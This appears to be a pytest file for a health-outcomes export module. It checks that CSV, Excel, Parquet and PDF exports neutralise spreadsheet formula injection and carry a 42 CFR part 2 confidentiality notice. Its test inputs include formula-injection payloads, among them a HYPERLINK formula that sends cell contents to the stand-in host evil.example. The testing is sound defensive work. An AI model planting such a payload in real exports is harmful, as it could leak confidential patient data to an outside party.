"""Exports cannot carry a formula, and carry the 42 CFR part 2 notice and the data use statement."""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
import subprocess

import pandas as pd
import plotly.graph_objects as go
import pyarrow.parquet as pq
import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from outcomes.present import files as output
from outcomes.present import notice
from outcomes.present import pdf as export

LINK = '=HYPERLINK("http://evil.example/?"&A2,"click")'
FORMULAS = [
    LINK,
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "  +cmd",
    "\t\t@x",
    "\u3000=1",
    "＝1+1",
]


@pytest.mark.parametrize("value", FORMULAS, ids=range(len(FORMULAS)))
def test_formula_like(value):
    assert output.formula_like(value)


@pytest.mark.parametrize("value", ["Northside", "a=b", "1-2", "", " plain", "e-mail", "5"])
def test_not_formula_like(value):
    assert not output.formula_like(value)


def _table() -> pd.DataFrame:
    return pd.DataFrame({LINK: FORMULAS, " =SUM(1)": range(len(FORMULAS)), "site": "Northside"})


def test_csv_neutralises_headers_and_values():
    rows = list(csv.reader(io.StringIO(output.to_csv(_table()))))
    assert rows[0][0] == "'" + LINK and rows[0][1] == "' =SUM(1)" and rows[0][2] == "site"
    assert all(r[0].startswith("'") for r in rows[1:]), rows
    assert {r[2] for r in rows[1:]} == {"Northside"}


def test_excel_has_no_live_formula_and_carries_the_notice():
    book = load_workbook(io.BytesIO(output.to_excel(_table())))
    data = book["Data"]
    cells = [c for row in data.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell would run as a formula"
    assert data["A1"].value == "'" + LINK
    assert all(str(c.value).startswith("'") for c in data["A"][1:])
    n = notice.Notice()
    assert data.oddFooter.center.text == n.short
    sheet = book["Notice"]
    assert sheet["A2"].value == n.part2 and sheet["A4"].value == n.data_use
    assert "42 CFR part 2" in sheet["A2"].value and book.properties.subject == n.short
    assert pd.read_excel(io.BytesIO(output.to_excel(_table())), sheet_name=0).shape == (len(FORMULAS), 3)


def test_parquet_carries_the_notice():
    meta = pq.read_schema(io.BytesIO(output.to_parquet(_table()))).metadata
    assert meta[b"notice"].decode() == notice.PART2 and meta[b"data_use"].decode() == notice.DATA_USE


def _pdf_text(data: bytes) -> list[str]:
    return [" ".join(page.extract_text().split()) for page in PdfReader(io.BytesIO(data)).pages]


def test_pdf_pages_carry_the_notice_as_text(tmp_path):
    charts = [export.Chart(f"chart {i}", go.Figure(go.Bar(x=["a", "b"], y=[20, 30])), "n = 50") for i in range(2)]
    data = export.pdf("Step-down", charts, "Sites: Northside", dt.date(2025, 6, 30))
    pages = _pdf_text(data)
    assert len(pages) == 3
    for page in pages[:2]:
        assert notice.SHORT in page and "Data use: for authorised staff" in page
    assert " ".join(notice.PART2.split()) in pages[2] and " ".join(notice.DATA_USE.split()) in pages[2]
    if shutil.which("pdftotext"):  # the same text as another reader sees it
        path = tmp_path / "page.pdf"
        path.write_bytes(data)
        text = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True, check=True).stdout
        assert notice.SHORT in " ".join(text.split())


def test_notice_text_is_configurable(tmp_path, monkeypatch):
    path = tmp_path / "notice.toml"
    path.write_text('[notice]\nshort = "Part 2 records: do not redisclose."\ndata_use = "Internal QI use only."\n')
    monkeypatch.setenv("OUTCOMES_NOTICE", str(path))
    n = notice.load()
    assert (n.short, n.data_use, n.part2) == (
        "Part 2 records: do not redisclose.",
        "Internal QI use only.",
        notice.PART2,
    )
    book = load_workbook(io.BytesIO(output.to_excel(_table())))
    assert book["Notice"]["A4"].value == "Internal QI use only."
    charts = [export.Chart("c", go.Figure(go.Bar(x=["a"], y=[20])))]
    assert "Part 2 records: do not redisclose." in _pdf_text(export.pdf("P", charts, "none", "today"))[0]
    assert "Internal QI use only." in notice.email_text() and "Internal QI use only." in notice.email_html()


@pytest.mark.parametrize("text", ["[notice]\nshort = 5\n", "[notice]\nfooter = 'x'\n", "notice = 'x'\n", "[notice\n"])
def test_broken_notice_file_stops_exports(tmp_path, monkeypatch, text):
    path = tmp_path / "notice.toml"
    path.write_text(text)
    monkeypatch.setenv("OUTCOMES_NOTICE", str(path))
    with pytest.raises(notice.NoticeError):
        output.to_excel(_table())


def test_example_notice_file_is_valid():
    from pathlib import Path

    n = notice.load(Path(__file__).resolve().parents[1] / "config" / "notice.example.toml")
    assert n.part2 == notice.PART2 and n.short == notice.SHORT


def test_email_text_ends_with_the_notice():
    text = notice.email_text()
    assert text.rstrip().endswith(notice.DATA_USE) and notice.PART2 in text
    assert "a &amp; b" in notice.email_html(notice.Notice(data_use="a & b"))
